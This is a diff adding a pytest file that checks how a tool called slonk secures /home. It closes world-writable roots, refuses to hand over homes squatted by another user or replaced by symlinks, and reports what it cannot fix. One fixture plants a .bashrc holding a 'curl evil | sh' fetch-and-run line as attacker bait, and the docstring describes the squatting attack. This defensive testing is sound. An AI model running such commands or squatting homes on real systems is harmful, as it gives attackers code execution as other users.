@@ -1,0 +1,132 @@
+"""From the attacker's side: mallory, a user, can write /home when the volume's root is 0777
+(what many provisioners hand out). She makes /home/bob before bob exists, or a link there to
+a tree she wants, and waits for the sync to admit bob. Slonk closes the root, never gives
+anyone a tree it did not make, and says so."""
+
+from __future__ import annotations
+
+import os
+import shutil
+import stat
+import tempfile
+from pathlib import Path
+
+import pytest
+
+from slonk.config.spec import User
+from slonk.users.homes import make_homes, secure_root
+from slonk.users.sync import sync
+
+from .test_users_sync import DEMO, new_pod, reader, spec, user_entry
+
+MALLORY = 5300
+BOB = User(name="bob", uid=5001, gid=5001)
+
+
+@pytest.fixture
+def home(tmp_path):
+    path = tmp_path / "home"
+    path.mkdir()
+    return path
+
+
+def _owner_mode(path):
+    info = path.lstat()
+    return info.st_uid, stat.S_IMODE(info.st_mode)
+
+
+@pytest.mark.parametrize(("owner", "mode"), [(0, 0o777), (0, 0o1777), (0, 0o775),
+                                             (MALLORY, 0o755), (MALLORY, 0o700)])
+def test_the_root_of_home_is_made_roots_and_closed(home, owner, mode):
+    os.chown(home, owner, 0)
+    home.chmod(mode)
+    assert secure_root(home) == []
+    assert _owner_mode(home) == (0, mode & 0o755)
+
+
+def test_a_closed_root_is_left_as_it_is(home):
+    home.chmod(0o711)  # no listing: the operator's choice, and safe
+    assert secure_root(home) == []
+    assert _owner_mode(home) == (0, 0o711)
+
+
+@pytest.fixture
+def open_home():
+    """A /home nobody can reach (pytest's own directories are root's alone)."""
+    path = Path(tempfile.mkdtemp(prefix="slonk-home-"))
+    try:
+        yield path
+    finally:
+        shutil.rmtree(path)
+
+
+def test_a_root_the_volume_will_not_change_is_reported_not_fatal(open_home):
+    """NFS with root_squash: root is nobody there, as this child is."""
+    home = open_home
+    home.chmod(0o777)
+    read, write = os.pipe()
+    child = os.fork()
+    if child == 0:  # pragma: no cover - the child reports through the pipe
+        try:
+            os.setuid(65534)
+            os.write(write, "\n".join(secure_root(home)).encode())
+        finally:
+            os._exit(0)
+    os.close(write)
+    with os.fdopen(read) as stream:
+        problems = stream.read()
+    os.waitpid(child, 0)
+    assert "cannot be made root's 755 (Operation not permitted)" in problems
+    assert _owner_mode(home) == (0, 0o777)
+
+
+def test_homes_made_once(home):
+    user = User(name="alice", uid=2001, gid=2002)
+    elsewhere = User(name="bob", uid=2003, gid=2003, home="/home/shared/bob")
+    assert make_homes([user, elsewhere], home) == []
+    assert sorted(p.name for p in home.iterdir()) == ["alice"]
+    info = (home / "alice").stat()
+    assert (info.st_uid, info.st_gid, stat.S_IMODE(info.st_mode)) == (2001, 2002, 0o700)
+    (home / "alice").chmod(0o750)
+    assert make_homes([user], home) == []
+    assert _owner_mode(home / "alice") == (2001, 0o750)  # left alone
+
+
+def test_a_home_that_cannot_be_made_is_reported(tmp_path):
+    assert make_homes([BOB], tmp_path / "missing") == [
+        "cannot make homes in /home: No such file or directory"]
+
+
+def test_a_home_made_by_someone_else_is_not_given_away(home):
+    (home / "bob").mkdir()
+    (home / "bob/.bashrc").write_text("curl evil | sh\n")
+    os.chown(home / "bob", MALLORY, MALLORY)
+    os.chown(home / "bob/.bashrc", MALLORY, MALLORY)
+    assert make_homes([BOB], home) == [
+        "home /home/bob is uid 5300's, not bob's (uid 5001): left alone; check who made it "
+        "and what it holds"]
+    assert _owner_mode(home / "bob")[0] == MALLORY
+    assert (home / "bob/.bashrc").stat().st_uid == MALLORY
+
+
+def test_a_link_in_place_of_a_home_is_not_followed(home, tmp_path):
+    target = tmp_path / "roots-tree"
+    target.mkdir(mode=0o700)
+    (home / "bob").symlink_to(target)
+    assert make_homes([BOB], home) == ["home /home/bob is a symbolic link: left alone"]
+    assert _owner_mode(target) == (0, 0o700)
+    (home / "bob").unlink()
+    (home / "bob").write_text("")
+    assert make_homes([BOB], home) == ["home /home/bob is not a directory: left alone"]
+
+
+def test_the_sync_closes_home_and_reports_a_squatted_home(tmp_path):
+    node = new_pod(tmp_path / "pod", tmp_path / "home")
+    node.home.chmod(0o777)
+    (node.home / "bob").mkdir()
+    os.chown(node.home / "bob", MALLORY, MALLORY)
+    result = sync(spec(), node, read=reader([DEMO, user_entry("bob", 5001, gid=5001)]))
+    assert _owner_mode(node.home) == (0, 0o755)
+    assert _owner_mode(node.home / "bob")[0] == MALLORY
+    assert _owner_mode(node.home / "demo") == (5000, 0o700)
+    assert "home /home/bob is uid 5300's, not bob's (uid 5001)" in " ".join(result.warnings)
